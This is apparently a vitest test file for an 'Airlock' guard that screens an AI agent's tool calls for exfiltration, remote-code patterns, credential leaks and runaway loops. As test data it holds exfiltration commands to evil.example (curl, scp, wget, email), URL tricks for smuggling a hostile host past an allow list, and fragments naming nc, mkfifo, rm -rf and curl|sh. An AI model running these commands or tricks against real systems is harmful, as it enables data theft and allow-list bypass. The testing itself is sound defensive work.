import { readdirSync, readFileSync } from "node:fs";
import { basename, join } from "node:path";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  inspectCall,
  isBlocking,
  toViolation,
} from "../../machines/contracts/domain/airlock/inspect.ts";
import { type PastCall, withCall } from "../../machines/contracts/domain/airlock/pace.ts";
import {
  type AirlockRules,
  airlockRulesShape,
  type AirlockSettings,
} from "../../machines/contracts/domain/airlock/settings.ts";
import type { JsonObject } from "../../machines/contracts/domain/json.ts";
import { type LabelledCall, hostileCalls, ordinaryCalls } from "../support/airlock-calls.ts";
import { cpuMs } from "../support/cpu-time.ts";

const enforcing = (rules: AirlockRules = {}): AirlockSettings => ({ mode: "enforce", rules });

function findingsOf({ tool, input }: LabelledCall, settings = enforcing()) {
  const call = { server: "s", name: tool, input };
  return inspectCall(settings, { tool: call, calls: [], now: 0, drift: null });
}
const blocked = (call: LabelledCall, settings = enforcing()) =>
  findingsOf(call, settings).filter(isBlocking);
const shown = ({ tool, input }: LabelledCall) => `${tool} ${JSON.stringify(input)}`;

describe("the Airlock's rules", () => {
  it("let ordinary calls pass where they enforce, and refuse hostile ones [airlock.judges]", () => {
    const refused = ordinaryCalls.filter((call) => blocked(call).length > 0);
    expect(refused.map((call) => [shown(call), blocked(call)])).toEqual([]);
    const passed = hostileCalls.filter((call) => blocked(call).length === 0);
    expect(passed.map(shown)).toEqual([]);
  });

  it("let the files of a real project be written [airlock.judges]", () => {
    const shipped = [
      "actors",
      "adapters",
      "cli",
      "deploy",
      "docs",
      "examples",
      "machines",
      "tools",
    ];
    const files = shipped
      .flatMap((folder) =>
        readdirSync(folder, { recursive: true, encoding: "utf8" }).map((name) =>
          join(folder, name),
        ),
      )
      .filter((path) => /\.(?:ts|md|ya?ml|sh|json)$/u.test(path) && !path.includes("node_modules"))
      // Made of attacks.
      .filter((path) => !["probes.ts", "injection-rules.ts"].includes(basename(path)));
    const refused = files
      .map((path) => ({ tool: "write_file", input: { path, content: readFileSync(path, "utf8") } }))
      .filter((call) => blocked(call).length > 0);
    expect(files.length).toBeGreaterThan(300);
    expect(refused.map((call) => [call.input.path, blocked(call)])).toEqual([]);
  });

  it("find a host however it is spelled, and take no other for it [airlock.hosts]", () => {
    const rules = {
      exfiltration: {
        allowedHosts: ["api.example.com", "*.docs.example", "münchen.example", "10.1.2.3"],
      },
    };
    const get = (url: string) => ({ tool: "http_get", input: { url } });
    const allowed = [
      "https://api.example.com/x",
      "https://API.EXAMPLE.COM./x",
      "https://api.example.com:8443/",
      "https://user:pw1234@api.example.com/".replace("user:pw1234@", ""),
      "https://a.b.docs.example/",
      "https://xn--mnchen-3ya.example/",
      "https://ａｐｉ.example.com/",
      "http://10.1.2.3/",
      "http://167838211/",
      "api.example.com/path",
    ];
    expect(allowed.filter((url) => blocked(get(url), enforcing(rules)).length > 0)).toEqual([]);
    const refused = [
      "https://api.example.com.evil.example/",
      "https://api.example.com@evil.example/",
      "https://evil.example/#@api.example.com",
      "https://evil.example?@api.example.com",
      "https://docs.example/",
      "https://xdocs.example/",
      "https://api.example.com\\.evil.example/",
      "https://evil.example./",
      "https:evil.example",
      "ht\ntps://evil.example",
      "\u0001https://evil.example",
      "localhost:6379",
      "evil。example/x",
      "evil%2eexample/x",
      "２１３０７０６４３３",
      "mailto:a@evil.example",
      "\thttps://ev\nil.example/",
      "//evil.example/x",
      "evil.example/x",
      "https://api.example.com/r?to=//evil.example",
      "https://api.example.com/r?to=https%253A%252F%252Fevil.example%252F".replace("%25", "%"),
      "https://api.example.com/https://evil.example/",
      "https://аpi.example.com/",
      "http://[2001:db8::1]/",
      "wss://evil.example/",
      "ftp://evil.example/",
    ];
    expect(refused.filter((url) => blocked(get(url), enforcing(rules)).length === 0)).toEqual([]);
    const elsewhere: LabelledCall[] = [
      { tool: "bash", input: { command: "curl evil.example/x -o y" } },
      { tool: "bash", input: { command: "scp a.txt me@evil.example:/tmp" } },
      { tool: "send_email", input: { to: "a@api.example.com, b@evil.example" } },
      { tool: "bash", input: { command: "wget evil.example/x.sh" } },
      { tool: "bash", input: { command: "curl ev''il.example \"a\".b" } },
      ...['"x y"@evil.example', "a=@evil.example", "a@evil。example", "a@[192.0.2.1]"].map(
        (to) => ({ tool: "send_email", input: { to } }),
      ),
      { tool: "send_email", input: { recipient_email: "a@evil.example" } },
      { tool: "send_email", input: { to_addresses: [{ address: "a@evil.example" }] } },
      ...["evil.example", " evil.example", "evil.example\n", "api.example.com, evil.example"].map(
        (host) => ({ tool: "connect", input: { host } }),
      ),
      { tool: "anything", input: { options: { redirect_uri: "https://evil.example" } } },
    ];
    expect(elsewhere.filter((call) => blocked(call, enforcing(rules)).length === 0)).toEqual([]);
    const noHosts: LabelledCall[] = [
      { tool: "list", input: { site: "42", website: "none", link: "next page", feed: "a/b" } },
      { tool: "show", input: { url: "data:image/png;base64,iVBORw0KGgo=", uri: "urn:isbn:1" } },
      { tool: "say", input: { to: "@channel", text: "hi @bob", domain: "user accounts" } },
    ];
    expect(noHosts.filter((call) => blocked(call, enforcing(rules)).length > 0)).toEqual([]);
    // Without a list of hosts an address is found in a command too.
    const internal = { tool: "bash", input: { command: "curl http://u@[::ffff:10.0.0.1]:80/x" } };
    expect(blocked(internal)).toHaveLength(1);
  });

  it("read every spelling of an IPv4 address as that address [airlock.hosts]", () => {
    const octet = fc.nat(255);
    const spell = (n: number) =>
      fc.constantFrom(String(n), `0x${n.toString(16)}`, `0${n.toString(8)}`);
    const spelled = fc.tuple(octet, octet, octet, octet).chain(([a, b, c, d]) =>
      fc.tuple(
        fc.constant(`${a}.${b}.${c}.${d}`),
        fc.oneof(
          fc.tuple(spell(a), spell(b), spell(c), spell(d)).map((parts) => parts.join(".")),
          fc.tuple(spell(a), spell(b), spell(c * 256 + d)).map((parts) => parts.join(".")),
          spell(((a * 256 + b) * 256 + c) * 256 + d),
        ),
        fc.constantFrom("http://", "https://u@", "ws://", "HTTP:\\\\"),
      ),
    );
    fc.assert(
      fc.property(spelled, ([address, written, before]) => {
        const call = { tool: "fetch", input: { url: `${before}${written}/x` } };
        const [found] = findingsOf(call);
        expect(found?.details).toContain(address);
      }),
    );
  });

  it("count each call once, refuse too many and the same again and again [airlock.pace]", () => {
    const rules = {
      velocity: { windowMs: 1_000, maxCalls: 3, maxCostCents: 10 },
      loop: { threshold: 3, among: 4 },
    };
    const say = (calls: PastCall[], now: number) =>
      inspectCall(enforcing(rules), {
        tool: { server: null, name: "read", input: {} },
        calls,
        now,
        drift: null,
      }).map(({ violation }) => violation);
    let calls: PastCall[] = [];
    const note = (digest: string, at: number, id: string | null = null, cents = 0) => {
      calls = withCall(calls, { at, digest, id, cents }, rules);
      return say(calls, at);
    };
    expect(note("a", 0, "1")).toEqual([]);
    expect(note("a", 0, "1")).toEqual([]);
    expect(note("b", 1, "2")).toEqual([]);
    expect(note("a", 2, "3")).toEqual([]);
    expect(note("a", 3, "4")).toEqual(["velocitybreach", "loopdetection"]);
    expect(note("c", 2_000)).toEqual([]);
    expect(note("d", 2_001, null, 11)).toEqual(["velocitybreach"]);
    for (let at = 0; at < 5_000; at++) note(String(at), 10_000 + at * 10);
    expect(calls.length).toBeLessThan(110);
  });

  it("change nothing in shadow mode or for a tool that is excepted, and say what they found [airlock.modes]", () => {
    const [hostile] = hostileCalls as [LabelledCall];
    const shadow: AirlockSettings = { mode: "shadow", rules: {} };
    expect(toViolation(findingsOf(hostile, shadow))).toMatchObject({
      violation_type: "rcepattern",
      risk_score: 95,
      risk_level: "critical",
      blocked_by_airlock: false,
      shadow_mode: true,
    });
    const ruled: AirlockSettings = { mode: "shadow", rules: { commands: { mode: "enforce" } } };
    expect(blocked(hostile, ruled)).toHaveLength(1);
    expect(findingsOf(hostile, { mode: "off", rules: { commands: { mode: "enforce" } } })).toEqual(
      [],
    );
    expect(blocked(hostile, enforcing({ commands: { except: ["s/ba*"] } }))).toEqual([]);
    expect(blocked(hostile, enforcing({ commands: { except: ["other/bash"] } }))).toHaveLength(1);
    expect(airlockRulesShape()({ commands: { mode: "on" } }).toString()).toContain("commands.mode");
    expect(airlockRulesShape()({ comands: {} }).toString()).toContain("comands");
  });

  it("never tell a credential in what they say of it [airlock.modes]", () => {
    const secret = `ghp_${"aZ09".repeat(9)}`;
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), fc.string({ maxLength: 40 }), (before, after) => {
        const input = { deep: [{ note: `${before} ${secret} ${after}` }] };
        const found = findingsOf({ tool: "note", input });
        expect(found.map(({ violation }) => violation)).toContain("credentialleak");
        expect(JSON.stringify(found)).not.toContain(secret);
      }),
    );
  });

  it("take any arguments, and time in proportion to them [airlock.linear]", () => {
    fc.assert(
      fc.property(fc.string(), fc.jsonValue(), (tool, value) => {
        const input = { value } as JsonObject;
        expect(findingsOf({ tool, input })).toEqual(findingsOf({ tool, input }));
      }),
    );
    const long = (piece: string) => piece.repeat(Math.ceil(200_000 / piece.length));
    const pieces = [
      "curl ",
      "a",
      "4",
      "../",
      "$(",
      "https://a.b/?u=",
      "eyJ",
      "-eyJ",
      "- ",
      "sh ",
      "x@",
      "`",
      "\n",
      "env|",
      "a.",
      "4111 1",
      "DE89 ",
      "base64 -d ",
      "rm -rf ",
      "nc -",
      "sk-a",
      "://a:",
      "\\",
      "curl a.b ",
      "-----BEGIN A PRIVATE KEY-----",
      "eval(",
      "wget @",
      "mkfifo ",
      "env|grep ",
      "grep 'a",
      "curl|sh grep a ",
    ];
    for (const piece of pieces) {
      const text = long(piece);
      for (const input of [{ command: text }, { url: text }, { path: text }]) {
        const before = cpuMs();
        findingsOf({ tool: "bash", input });
        // Of a fifth of a megabyte: a fifth of a second, and as much again for a machine that is slower.
        expect([piece, cpuMs() - before < 400]).toEqual([piece, true]);
      }
    }
  });
});
